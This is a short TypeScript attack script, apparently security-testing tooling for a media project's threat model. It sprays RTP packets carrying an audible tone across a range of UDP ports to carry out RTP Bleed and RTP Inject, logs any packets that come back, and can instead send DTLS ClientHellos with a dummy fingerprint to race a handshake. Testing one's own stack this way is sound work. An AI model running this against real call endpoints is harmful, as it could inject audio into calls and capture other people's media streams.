/**
 * RTP Bleed and RTP Inject in one (threat L1): RTP to every port of a range, again and again, until it is ended.
 * spray.ts ADDRESS FIRST LAST. The payload is a tone, so that it would be heard where it got through.
 * With `hello` behind it: the ClientHello of a handshake that could be meant (threat L3), new in each round.
 */
import { createSocket } from "node:dgram";
import { createDtlsIdentity } from "../../../packages/media/src/dtls/identity.ts";

const [address = "", first = "", last = "", what] = process.argv.slice(2);
/** 800 Hz in µ-law: ten samples a period. */
const period = [0xff, 0x9e, 0x93, 0x93, 0x9e, 0xff, 0x1e, 0x13, 0x13, 0x1e];
const roundMs = 40;
const socket = createSocket("udp4");
socket.on("error", () => undefined);
// What comes back is the catch: it is counted on the wire, and said here too.
socket.on("message", (_bytes, { port }) => console.log(`caught a packet from port ${port}`));

let sequence = 0;
function packet(): Buffer {
  const bytes = Buffer.from([
    0x80,
    0,
    ...Array.from({ length: 10 }, () => 0),
    ...Array.from({ length: 16 }, () => period).flat(),
  ]);
  bytes.writeUInt16BE(sequence & 0xffff, 2);
  bytes.writeUInt32BE(sequence * 160, 4);
  bytes.writeUInt32BE(0x5ca1ab1e, 8);
  sequence += 1;
  return bytes;
}

const identity = what === "hello" ? createDtlsIdentity() : undefined;
/** Nobody's certificate: whoever answered would be told so at the end, and a race is won before. */
const terms = {
  role: "active",
  fingerprints: [{ hash: "sha-256", value: new Uint8Array(32) }],
  suites: ["AES_CM_128_HMAC_SHA1_80"],
} as const;

setInterval(() => {
  const bytes = identity?.open(terms)?.begin().datagrams[0] ?? packet();
  for (let port = Number(first); port <= Number(last); port++) socket.send(bytes, port, address);
}, roundMs);
console.log("spraying");
